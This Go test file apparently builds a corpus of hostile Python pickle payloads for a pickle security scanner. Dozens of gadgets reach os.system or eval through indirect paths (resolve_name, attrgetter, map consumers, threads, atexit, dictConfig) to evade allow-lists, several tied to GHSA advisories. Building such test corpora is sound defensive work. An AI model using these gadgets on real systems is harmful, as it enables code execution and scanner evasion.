package hostile

import asm "github.com/picketsec/picket/internal/testkit/pickleasm"

// system is the function itself, for gadgets that are handed a callable.
func system() asm.Value { return g("posix", "system") }

// commands is a list with the command in it.
func commands() asm.Value { return asm.List(shell) }

// mapped is an iterator that runs the command when something consumes it.
func mapped() asm.Value { return call(g("builtins", "map"), system(), commands()) }

// indirectGadgets reach a dangerous function through a harmless-looking one.
var indirectGadgets = []gadget{
	{family: "indirect-lookup", id: "resolve-name", note: "GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name reaches any function by text", value: call(call(g("pkgutil", "resolve_name"), s("os:system")), shell)},
	{family: "indirect-lookup", id: "pydoc-locate", note: "GHSA-84r2-jw7c-4r5q: pydoc.locate, called through operator.methodcaller",
		value: on(call(g("pydoc", "locate"), s("os.system")), method("__call__", shell))},
	{family: "indirect-lookup", id: "pydoc-resolve", note: "GHSA-5hvc-6wx8-mvv4: pydoc.resolve", value: call(call(g("operator", "itemgetter"), asm.Num(0)), call(g("pydoc", "resolve"), s("os.system"))), inert: true},
	{family: "indirect-lookup", id: "logging-resolve", note: "logging.config._resolve reaches any function by text", value: call(call(g("logging.config", "_resolve"), s("os.system")), shell)},
	{family: "indirect-lookup", id: "unittest-importer", note: "GHSA-pc6j-px3p-rrj4: unittest.mock._importer",
		value: call(call(g("unittest.mock", "_importer"), s("os.system")), shell), needs: "Python 3.8"},
	{family: "indirect-lookup", id: "attrgetter", note: "GHSA-46h3-79wf-xr6c: operator.attrgetter on a module", value: call(on(g("shutil", "os"), call(g("operator", "attrgetter"), s("system"))), shell)},
	{family: "indirect-lookup", id: "attrgetter-alias", note: "GHSA-955r-x9j8-7rhh: _operator.attrgetter, the C alias of operator.attrgetter",
		value: call(on(g("shutil", "os"), call(g("_operator", "attrgetter"), s("system"))), shell)},
	{family: "indirect-lookup", id: "attrgetter-dotted", note: "GHSA-46h3-79wf-xr6c: operator.attrgetter with a path of attributes",
		value: call(on(g("logging", "config"), call(g("operator", "attrgetter"), s("os.system"))), shell), inert: true},
	{family: "indirect-lookup", id: "itemgetter-alias", note: "GHSA-955r-x9j8-7rhh: _operator.itemgetter on a module's dictionary",
		value: call(on(g("shutil", "os.__dict__"), call(g("_operator", "itemgetter"), s("system"))), shell), min: 4},
	{family: "indirect-lookup", id: "methodcaller-alias", note: "GHSA-955r-x9j8-7rhh: _operator.methodcaller", value: on(g("shutil", "os"), call(g("_operator", "methodcaller"), s("system"), shell))},
	{family: "indirect-lookup", id: "getitem-sys-modules", note: "operator.getitem on sys.modules", value: call(attr(call(g("operator", "getitem"), g("sys", "modules"), s("os")), "system"), shell)},
	{family: "indirect-lookup", id: "dict-get-builtins", note: "builtins.dict.get on a module's dictionary",
		value: call(call(g("builtins", "dict.get"), g("builtins", "__dict__"), s("eval")), python), min: 4},
	{family: "indirect-lookup", id: "getattribute", note: "object.__getattribute__ instead of getattr",
		value: call(call(g("builtins", "object.__getattribute__"), g("shutil", "os"), s("system")), shell), min: 4},
	{family: "indirect-lookup", id: "globals-of-function", note: "the __globals__ of a harmless function lead to builtins",
		value: call(call(g("builtins", "dict.get"), g("copyreg", "pickle.__globals__"), s("__builtins__")), s("eval")), min: 4, inert: true},
	{family: "indirect-lookup", id: "subclasses", note: "object.__subclasses__ hands out every class that is loaded", value: call(g("builtins", "object.__subclasses__")), min: 4, inert: true},
	{family: "indirect-lookup", id: "sys-modules", note: "sys.modules is handed out whole", value: g("sys", "modules"), inert: true},

	{family: "indirect-call", id: "functools-partial", note: "functools.partial prepares the call, the next REDUCE makes it", value: call(partial(system(), shell))},
	{family: "indirect-call", id: "functools-reduce", note: "functools.reduce calls its first argument", value: call(g("functools", "reduce"), g("builtins", "eval"), asm.List(python, asm.Dict()))},
	{family: "indirect-call", id: "map-list", note: "builtins.map, consumed by list", value: call(g("builtins", "list"), mapped())},
	{family: "indirect-call", id: "map-tuple", note: "builtins.map, consumed by tuple", value: call(g("builtins", "tuple"), mapped())},
	{family: "indirect-call", id: "map-set", note: "builtins.map, consumed by set", value: call(g("builtins", "set"), mapped())},
	{family: "indirect-call", id: "map-deque", note: "builtins.map, consumed by the allow-listed collections.deque", value: call(g("collections", "deque"), mapped())},
	{family: "indirect-call", id: "map-counter", note: "builtins.map, consumed by collections.Counter", value: call(g("collections", "Counter"), mapped())},
	{family: "indirect-call", id: "map-bytes", note: "builtins.map, consumed by NEWOBJ of bytes", value: asm.NewObject(g("builtins", "bytes"), mapped()), min: 2},
	{family: "indirect-call", id: "map-frozenset", note: "builtins.map, consumed by NEWOBJ of frozenset", value: asm.NewObject(g("builtins", "frozenset"), mapped()), min: 2},
	{family: "indirect-call", id: "map-array", note: "builtins.map, consumed by array.array", value: call(g("array", "array"), s("i"), mapped())},
	{family: "indirect-call", id: "filter-list", note: "builtins.filter, consumed by list", value: call(g("builtins", "list"), call(g("builtins", "filter"), system(), commands()))},
	{family: "indirect-call", id: "starmap", note: "itertools.starmap, consumed by list",
		value: call(g("builtins", "list"), call(g("itertools", "starmap"), system(), asm.List(asm.Tuple(shell))))},
	{family: "indirect-call", id: "accumulate", note: "itertools.accumulate calls its function",
		value: call(g("builtins", "list"), call(g("itertools", "accumulate"), asm.List(python, asm.Dict()), g("builtins", "eval")))},
	{family: "indirect-call", id: "iter-sentinel", note: "modelaudit PR 1152: iter(callable, sentinel), consumed by statistics.quantiles",
		value: call(g("statistics", "quantiles"), call(g("builtins", "iter"), partial(system(), shell), asm.Num(0)))},
	{family: "indirect-call", id: "defaultdict-factory", note: "collections.defaultdict calls its factory on a missing key",
		value: call(g("operator", "getitem"), call(g("collections", "defaultdict"), partial(system(), shell)), s("x"))},
	{family: "indirect-call", id: "max-key", note: "builtins.sorted with a key function by way of functools.partial",
		value: asm.CallArgs(asm.Built(partial(g("builtins", "sorted")), asm.Tuple(g("builtins", "sorted"), asm.Tuple(), asm.Dict(s("key"), system()), asm.Dict())), asm.Tuple(commands()))},
	{family: "indirect-call", id: "cmp-to-key", note: "functools.cmp_to_key calls its function on comparison",
		value: call(g("operator", "lt"), on(python, call(g("functools", "cmp_to_key"), g("builtins", "eval"))), on(asm.Dict(), call(g("functools", "cmp_to_key"), g("builtins", "eval"))))},
	{family: "indirect-call", id: "lru-cache", note: "functools.lru_cache wraps the callable", value: call(on(system(), call(g("functools", "lru_cache"))), shell)},
	{family: "indirect-call", id: "weakref-finalize", note: "weakref.finalize calls at exit", value: call(g("weakref", "finalize"), g("collections", "Counter"), system(), shell)},
	{family: "indirect-call", id: "atexit-register", note: "GHSA-m6fh-58r7-x697: atexit.register calls when the loader exits", value: call(g("atexit", "register"), system(), shell)},
	{family: "indirect-call", id: "threading-thread", note: "threading.Thread calls its target",
		value: on(call(g("threading", "Thread"), asm.None, system(), asm.None, asm.Tuple(shell)), method("start"))},
	{family: "indirect-call", id: "start-new-thread", note: "modelaudit exploit: _thread.start_new_thread", value: asm.Seq(call(g("_thread", "start_new_thread"), system(), asm.Tuple(shell)), call(g("time", "sleep"), asm.Real(0.2)))},
	{family: "indirect-call", id: "threading-timer", note: "threading.Timer calls later", value: on(call(g("threading", "Timer"), asm.Num(0), system(), asm.List(shell)), method("start"))},
	{family: "indirect-call", id: "signal-handler", note: "signal.signal installs a handler", value: call(g("signal", "signal"), asm.Num(10), g("builtins", "eval")), inert: true},
	{family: "indirect-call", id: "executor-submit", note: "concurrent.futures.ThreadPoolExecutor.submit",
		value: on(call(g("concurrent.futures", "ThreadPoolExecutor"), asm.Num(1)), method("submit", system(), shell))},
	{family: "indirect-call", id: "contextlib-exitstack", note: "contextlib.ExitStack.callback calls on close", value: indirectExitStack()},
	{family: "indirect-call", id: "sys-setprofile", note: "sys.setprofile installs a function that every call runs", value: call(g("sys", "setprofile"), g("builtins", "eval")), inert: true},
	{family: "indirect-call", id: "logging-dictconfig", note: "logging.config.dictConfig calls the factory that its text names",
		value: call(g("logging.config", "dictConfig"), asm.Dict(s("version"), asm.Num(1), s("formatters"), asm.Dict(s("x"), asm.Dict(s("()"), s("os.system"), s("command"), shell))))},
	{family: "indirect-call", id: "copyreg-reconstructor", note: "copyreg._reconstructor with a class whose constructor runs a command",
		value: call(g("copyreg", "_reconstructor"), g("subprocess", "Popen"), g("builtins", "object"), asm.None), inert: true},
	{family: "indirect-call", id: "copyreg-newobj", note: "copyreg.__newobj__ instead of the NEWOBJ opcode",
		value: call(g("copyreg", "__newobj__"), g("builtins", "frozenset"), mapped())},
	{family: "indirect-call", id: "types-methodtype", note: "types.MethodType binds a callable to an argument", value: call(call(g("types", "MethodType"), system(), shell))},
	{family: "indirect-call", id: "operator-call", note: "operator.call of Python 3.11", value: call(g("operator", "call"), system(), shell), needs: "Python 3.11"},
	{family: "indirect-call", id: "process-chunk", note: "concurrent.futures.process._process_chunk calls its first argument",
		value: call(g("concurrent.futures.process", "_process_chunk"), system(), asm.List(asm.Tuple(shell)))},
	{family: "indirect-call", id: "mapstar", note: "multiprocessing.pool.mapstar calls its first argument", value: call(g("multiprocessing.pool", "mapstar"), asm.Tuple(system(), commands()))},
	{family: "indirect-call", id: "re-sub-callback", note: "re.sub calls its replacement", value: call(g("re", "sub"), s("^echo"), g("builtins", "print"), s("echo "+Marker)), inert: true},
	{family: "indirect-call", id: "heapq-nsmallest", note: "heapq.nsmallest consumes an iterator that runs commands", value: call(g("heapq", "nsmallest"), asm.Num(1), mapped())},
	{family: "indirect-call", id: "shutil-copytree", note: "shutil.copytree takes a copy function and an ignore function",
		value: call(g("shutil", "copytree"), s("/nonexistent"), s("/nonexistent"), asm.Bool(false), asm.None, system()), inert: true},
	{family: "indirect-call", id: "sum-map", note: "builtins.sum consumes the map", value: call(g("builtins", "sum"), mapped())},
	{family: "indirect-call", id: "any-map", note: "builtins.any consumes the map", value: call(g("builtins", "any"), mapped())},
	{family: "indirect-call", id: "dict-fromkeys", note: "dict.fromkeys consumes the map", value: call(g("builtins", "dict.fromkeys"), mapped()), min: 4},
	{family: "indirect-call", id: "ordereddict-fromkeys", note: "collections.OrderedDict.fromkeys, a method of an allow-listed class, consumes the map",
		value: call(g("collections", "OrderedDict.fromkeys"), mapped()), min: 4},
}

// indirectExitStack closes a stack that holds the call.
func indirectExitStack() asm.Value {
	return func(a *asm.Asm) {
		stack := call(g("contextlib", "ExitStack"))
		a.Put(stack).Raw(asm.BinPut, 9, asm.Pop)
		a.Put(on(asm.Verbatim("h\x09"), method("callback", system(), shell))).Raw(asm.Pop)
		a.Put(on(asm.Verbatim("h\x09"), method("close")))
	}
}
